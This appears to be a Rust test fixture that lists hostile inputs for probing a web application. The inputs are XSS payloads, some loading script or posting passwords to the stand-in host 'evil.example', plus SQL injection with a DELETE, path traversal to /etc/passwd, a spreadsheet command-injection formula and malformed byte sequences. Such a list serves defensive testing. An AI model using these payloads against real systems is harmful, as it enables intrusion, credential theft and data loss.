//! What is typed to break in, besides [`HOSTILE`].

use crate::town::HOSTILE;

const MORE: &[&str] = &[
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext></p><img src=x onerror=alert(1)>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=javascript:alert(1)>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "vbscript:msgbox(1)",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<style>@import'//evil.example/x.css';</style>",
    "</style><script>alert(1)</script>",
    "</noscript><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "\" autofocus onfocus=alert(1) x=\"",
    "' autofocus onfocus=alert(1) x='",
    "` onmouseover=alert(1) `",
    "\"/><leptos-island data-component=\"evil\">",
    "<!--hot-reload|evil--><script>alert(1)</script>",
    "<form action=//evil.example><input name=password>",
    "</form><form method=post action=/sign-out><button>",
    "<input name=key value=evil>",
    "' OR '1'='1",
    "1); DELETE FROM people; --",
    "$1 $2 ?1 :name @name",
    "%' ESCAPE '\\",
    "../../../../etc/passwd",
    "//evil.example/",
    "/\u{1}",
    "/cases\u{7f}",
    "https://evil.example/?q=<script>",
    "=1+1;cmd|' /C calc'!A0",
    "-9223372036854775809",
    "1e999",
    "NaN",
    "2026-02-30",
    "0000-00-00",
    "\u{0}",
    "\u{7f}\u{80}\u{9f}",
    "\u{2028}\u{2029}",
    "\u{e0001}\u{e0041}",
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘",
    "ﷺ﷽",
    "ⅷ①²㎏",
    "İıſK",
    "繁體簡體髮发發後后",
];

/// Bytes that are no text at all, as a program can send them.
const NO_TEXT: &[&[u8]] = &[
    b"%ED%A0%80",
    b"%FF%FE%00",
    b"%C0%AF",
    b"%F4%90%80%80",
    b"%",
    b"%E7%81",
];

/// Percent-encoded, as a browser sends text; what is no text goes as it is.
pub enum Payload {
    Text(String),
    Bytes(&'static [u8]),
}

impl Payload {
    pub fn encoded(&self) -> Vec<u8> {
        match self {
            Self::Text(text) => pages::routes::query_value(text).into_bytes(),
            Self::Bytes(bytes) => bytes.to_vec(),
        }
    }

    pub fn raw(&self) -> &[u8] {
        match self {
            Self::Text(text) => text.as_bytes(),
            Self::Bytes(_) => b"\xed\xa0\x80\xff\xfe",
        }
    }
}

/// All of it.
pub fn payloads() -> Vec<Payload> {
    let long = [
        "x".repeat(100_000),
        "字".repeat(2_000),
        "字".repeat(34_000),
        "字".repeat(120_000),
        "<b>".repeat(1_500),
        "\u{301}".repeat(3_000),
    ];
    let texts = HOSTILE
        .iter()
        .chain(MORE)
        .map(|text| (*text).to_owned())
        .chain(long);
    let bytes = NO_TEXT.iter().map(|bytes| Payload::Bytes(bytes));
    texts.map(Payload::Text).chain(bytes).collect()
}

/// Whether one engine takes it otherwise than another: what is no text, and what is long.
pub fn is_raw(payload: &Payload) -> bool {
    let odd = |text: &str| {
        text.len() > 2_000 || text.chars().any(|one| one.is_control() || one > '\u{fff0}')
    };
    match payload {
        Payload::Text(text) => odd(text) || text.contains('\''),
        Payload::Bytes(_) => true,
    }
}
